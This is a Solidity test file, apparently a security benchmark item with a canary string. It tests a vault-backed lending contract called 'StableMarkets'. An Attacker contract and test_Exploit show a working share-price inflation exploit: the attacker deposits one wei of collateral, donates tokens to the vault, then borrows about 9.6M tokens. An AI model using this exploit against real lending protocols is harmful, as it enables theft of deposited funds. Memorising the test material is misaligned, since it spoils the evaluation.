// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3ded9928-2ad3-4c8e-934a-67d011380646

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts@5.4.0/access/Ownable.sol";
import "./StableMarkets.sol";
import {Curve} from "./context/Curve.sol";
import {SavingsVault} from "./context/SavingsVault.sol";

interface Vm {
    function prank(address w) external;
    function startPrank(address w) external;
    function stopPrank() external;
    function warp(uint256 t) external;
    function expectRevert() external;
    function expectRevert(bytes4 e) external;
    function expectRevert(bytes calldata e) external;
}

contract Coin is ERC20 {
    address private immutable o = msg.sender;

    constructor(string memory s) ERC20(s, s) {}

    function mint(address w, uint256 n) external {
        require(msg.sender == o, "owner only");
        _mint(w, n);
    }

    function lose(address w, uint256 n) external {
        require(msg.sender == o, "owner only");
        _burn(w, n);
    }
}

contract Attacker {
    function run(StableMarkets m, SavingsVault v, uint256 n) external {
        IERC20 a = IERC20(v.asset());
        a.approve(address(v), 1);
        v.deposit(1, address(this));
        v.approve(address(m), 1);
        m.add(1, 1, address(this));
        a.transfer(address(v), 2_000e18);
        m.borrow(1, n, address(this), address(this));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant T = 1_780_000_000;
    uint256 private constant MAX = type(uint256).max;
    address private constant ANA = address(0xA11A);
    address private constant BO = address(0xB0B0);
    address private constant CY = address(0xC1C1);

    Coin private usd;
    Coin private dol;
    SavingsVault private va;
    SavingsVault private vb;
    StableMarkets private m;
    Attacker private mal;

    function setUp() public {
        vm.warp(T);
        usd = new Coin("USD");
        dol = new Coin("DOL");
        va = new SavingsVault(usd, "Savings A", "sA", 50_000_000e18);
        vb = new SavingsVault(usd, "Savings B", "sB", 50_000_000e18);
        m = new StableMarkets(usd, dol, 10);
        m.addMarket(va, 9_500, 300, 5_000_000e18, curve());
        m.addMarket(vb, 9_500, 300, 9_700_000e18, curve());
        m.setGuardian(CY);
        dol.mint(address(m), 9_700_000e18);
        usd.mint(ANA, 250_000e18);
        usd.mint(BO, 50_000e18);
        dol.mint(BO, 300_000e18);
        vm.startPrank(ANA);
        usd.approve(address(va), MAX);
        usd.approve(address(m), MAX);
        va.approve(address(m), MAX);
        dol.approve(address(m), MAX);
        va.deposit(200_000e18 + 7, ANA);
        m.add(0, 150_000e18, ANA);
        m.borrow(0, 100_000e18, ANA, ANA);
        vm.stopPrank();
        vm.startPrank(BO);
        usd.approve(address(va), MAX);
        usd.approve(address(vb), MAX);
        usd.approve(address(m), MAX);
        dol.approve(address(m), MAX);
        vm.stopPrank();
        mal = new Attacker();
        usd.mint(address(mal), 2_001e18);
    }

    function curve() private pure returns (Curve.C memory) {
        return Curve.C(0.01e18, 0.04e18, 0.5e18, 0.8e18);
    }

    function refuses(address w, bytes4 e) private {
        vm.prank(w);
        vm.expectRevert(e);
    }

    function test_Regular() public {
        require(m.count() == 2 && m.debtOf(0, ANA) == 100_100e18 && m.totalDebt(0) == 100_100e18, "start");
        require(m.need(0, ANA) == 100_100e18 && m.ltvOf(0, ANA) == 6_674 && m.ltvOf(0, BO) == 0, "views");
        require(m.market(0).coll == 150_000e18 && m.market(0).open, "market");

        vm.prank(BO);
        require(m.addAssets(1, 20_000e18, 20_000e18, BO) == 20_000e18, "shares");
        vm.prank(BO);
        m.setOp(ANA, true);
        vm.prank(ANA);
        m.borrow(1, 10_000e18, BO, ANA);
        require(dol.balanceOf(ANA) == 110_000e18 && m.debtOf(1, BO) == 10_010e18, "by the operator");
        vm.prank(ANA);
        m.take(1, 4_000e18, BO, BO);
        vm.prank(BO);
        require(m.takeAssets(1, 600e18, 600e18, BO, BO) == 600e18, "assets");
        vm.prank(ANA);
        require(m.takeAssets(1, 400e18, 400e18, BO, BO) == 400e18, "assets by the operator");
        require(vb.balanceOf(BO) == 4_000e18 && usd.balanceOf(BO) == 31_000e18, "taken");
        vm.prank(BO);
        m.setOp(ANA, false);

        vm.warp(T + 365 days);
        require(m.read(0) == 1e18, "rate");
        uint256 d = m.debtOf(0, ANA);
        require(d > 101_201e18 && d < 101_202e18 && m.index(0) > 1.011e18, "interest");
        require(m.totalDebt(0) == d, "total");
        vm.startPrank(ANA);
        require(m.repay(0, 50_000e18, ANA) == 50_000e18, "part");
        uint256 r = m.debtOf(0, ANA);
        require(r >= d - 50_000e18 && r <= d - 50_000e18 + 2, "left");
        require(m.repay(1, MAX, BO) < 10_200e18 && m.debtOf(1, BO) == 0 && m.totalDebt(1) == 0, "all of another");
        vm.stopPrank();
        vm.prank(BO);
        m.take(1, 15_000e18, BO, BO);
        require(m.market(1).coll == 0, "empty");
        loss();
        admin();
    }

    function loss() private {
        vm.prank(ANA);
        m.borrow(0, 60_000e18, ANA, ANA);
        usd.lose(address(va), 75_000e18 + 3);
        require(m.read(0) == 1.6e18, "a loss");
        require(!m.healthy(0, ANA) && m.ltvOf(0, ANA) > 10_000, "unhealthy");
        vm.prank(BO);
        (uint256 a, uint256 s) = m.liquidate(0, ANA, 10_000e18, 16_480e18);
        require(a == 10_000e18 && s == 16_480e18, "liquidated");
        vm.prank(BO);
        (a, s) = m.liquidate(0, ANA, MAX, 0);
        require(m.debtOf(0, ANA) == 0 && a > 100_000e18 && va.balanceOf(BO) <= 150_000e18, "the rest");
        require(va.balanceOf(BO) == 150_000e18 && m.market(0).coll == 0, "at most the pledge");
    }

    function admin() private {
        vm.prank(CY);
        m.setOpen(0, false);
        require(!m.market(0).open, "closed");
        m.setOpen(0, true);
        m.setCap(0, 1e18);
        m.setCurve(0, Curve.C(0, 0.1e18, 0.9e18, 0.5e18));
        m.setFee(100);
        m.setFee(0);
        m.setGuardian(BO);
        m.retire(1_000_000e18);
        require(dol.balanceOf(address(this)) == 1_000_000e18 && m.fee() == 0 && m.guardian() == BO, "set");
        m.transferOwnership(BO);
        vm.startPrank(BO);
        m.acceptOwnership();
        m.addMarket(vb, 9_000, 500, 1e18, curve());
        m.renounceOwnership();
        vm.stopPrank();
        require(m.owner() == address(0) && m.count() == 3, "left");
    }

    function test_RefusesStrangers() public {
        bytes memory e = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA);
        vm.startPrank(ANA);
        vm.expectRevert(e);
        m.addMarket(va, 9_500, 300, 1, curve());
        vm.expectRevert(e);
        m.setCap(0, 1);
        vm.expectRevert(e);
        m.setCurve(0, curve());
        vm.expectRevert(e);
        m.setGuardian(ANA);
        vm.expectRevert(e);
        m.setFee(0);
        vm.expectRevert(e);
        m.retire(1);
        vm.expectRevert(e);
        m.transferOwnership(ANA);
        vm.expectRevert(e);
        m.renounceOwnership();
        vm.expectRevert(e);
        m.acceptOwnership();
        vm.expectRevert(Book.Auth.selector);
        m.setOpen(0, false);
        vm.stopPrank();
        refuses(CY, Book.Auth.selector);
        m.setOpen(0, true);
    }

    function test_RefusesOtherAccounts() public {
        refuses(BO, Book.Auth.selector);
        m.take(0, 1e18, ANA, BO);
        refuses(BO, Book.Auth.selector);
        m.takeAssets(0, 1e18, 0, ANA, BO);
        refuses(BO, Book.Auth.selector);
        m.borrow(0, 1e18, ANA, BO);
        vm.prank(ANA);
        m.setOp(BO, true);
        refuses(CY, Book.Auth.selector);
        m.borrow(0, 1e18, ANA, CY);
    }

    function test_RefusesTerms() public {
        Coin other = new Coin("OTH");
        SavingsVault v = new SavingsVault(other, "Savings C", "sC", 1);
        vm.expectRevert(Book.BadAsset.selector);
        m.addMarket(v, 9_500, 300, 1, curve());
        vm.expectRevert(Book.BadTerms.selector);
        m.addMarket(vb, 0, 300, 1, curve());
        vm.expectRevert(Book.BadTerms.selector);
        m.addMarket(vb, 9_701, 0, 1, curve());
        vm.expectRevert(Book.BadTerms.selector);
        m.addMarket(vb, 9_500, 600, 1, curve());
        vm.expectRevert(Book.BadFee.selector);
        m.setFee(101);
        vm.expectRevert(Book.BadFee.selector);
        new StableMarkets(usd, dol, 101);
    }

    function test_RefusesCurves() public {
        Curve.C memory c = curve();
        c.kink = 0;
        vm.expectRevert(Curve.BadCurve.selector);
        m.setCurve(0, c);
        vm.expectRevert(Curve.BadCurve.selector);
        m.addMarket(vb, 9_500, 300, 1, c);
        c.kink = 1e18;
        vm.expectRevert(Curve.BadCurve.selector);
        m.setCurve(0, c);
        c = curve();
        c.jump = 0.95e18 + 1;
        vm.expectRevert(Curve.BadCurve.selector);
        m.setCurve(0, c);
    }

    function test_RefusesNothing() public {
        vm.startPrank(ANA);
        vm.expectRevert(StableMarkets.Zero.selector);
        m.add(0, 0, ANA);
        vm.expectRevert(StableMarkets.Zero.selector);
        m.addAssets(0, 0, 0, ANA);
        vm.expectRevert(StableMarkets.Zero.selector);
        m.take(0, 0, ANA, ANA);
        vm.expectRevert(StableMarkets.Zero.selector);
        m.takeAssets(0, 0, 0, ANA, ANA);
        vm.expectRevert(StableMarkets.Zero.selector);
        m.repay(0, 0, ANA);
        vm.stopPrank();
    }

    function test_RefusesShort() public {
        vm.startPrank(ANA);
        vm.expectRevert(StableMarkets.Short.selector);
        m.addAssets(0, 1_000e18, 1_000e18 + 1, ANA);
        vm.expectRevert(StableMarkets.Short.selector);
        m.takeAssets(0, 1_000e18, 1_000e18 + 1, ANA, ANA);
        vm.stopPrank();
        usd.lose(address(va), 80_000e18);
        refuses(BO, StableMarkets.Short.selector);
        m.liquidate(0, ANA, 1_000e18, 2_000e18);
    }

    function test_RefusesLoans() public {
        vm.startPrank(ANA);
        vm.expectRevert(StableMarkets.Unhealthy.selector);
        m.borrow(0, 43_000e18, ANA, ANA);
        vm.expectRevert(StableMarkets.Unhealthy.selector);
        m.take(0, 45_000e18, ANA, ANA);
        vm.expectRevert(StableMarkets.Unhealthy.selector);
        m.takeAssets(0, 45_000e18, 0, ANA, ANA);
        vm.expectRevert();
        m.take(0, 150_000e18 + 1, ANA, ANA);
        vm.expectRevert(StableMarkets.Small.selector);
        m.repay(0, 99_200e18, ANA);
        m.addAssets(1, 20_000e18, 0, ANA);
        vm.expectRevert(StableMarkets.Small.selector);
        m.borrow(1, 998e18, ANA, ANA);
        vm.stopPrank();
        refuses(BO, StableMarkets.Healthy.selector);
        m.liquidate(0, ANA, 1e18, 0);
        m.setCap(1, 5_000e18);
        refuses(ANA, StableMarkets.OverCap.selector);
        m.borrow(1, 5_000e18, ANA, ANA);
        m.setOpen(1, false);
        refuses(ANA, StableMarkets.Closed.selector);
        m.borrow(1, 2_000e18, ANA, ANA);
    }

    function test_RefusesADepeg() public {
        usd.lose(address(va), 181_000e18);
        vm.prank(ANA);
        m.repay(0, 100_000e18 - 1_000e18, ANA);
        refuses(ANA, StableMarkets.Depeg.selector);
        m.borrow(0, 1_000e18, ANA, ANA);
    }

    function test_RefusesToLiquidateNothing() public {
        usd.lose(address(va), 80_000e18);
        refuses(BO, StableMarkets.Zero.selector);
        m.liquidate(0, ANA, 0, 0);
    }

    function exploit() public {
        mal.run(m, vb, 9_600_000e18);
    }

    function test_Exploit() public {
        uint256 had = recoverable();
        exploit();
        require(recoverable() + 9_590_000e18 <= had, "nothing lost");
    }

    function recoverable() public view returns (uint256 n) {
        n = dol.balanceOf(address(m));
        for (uint256 i; i < 2; ++i) {
            Book.Market memory k = m.market(i);
            n += Math.min(Math.mulDiv(k.debt, k.idx, 1e18), k.vault.convertToAssets(k.coll));
        }
    }

    function target() public view returns (address) {
        return address(m);
    }

    function attacker() public view returns (address) {
        return address(mal);
    }
}
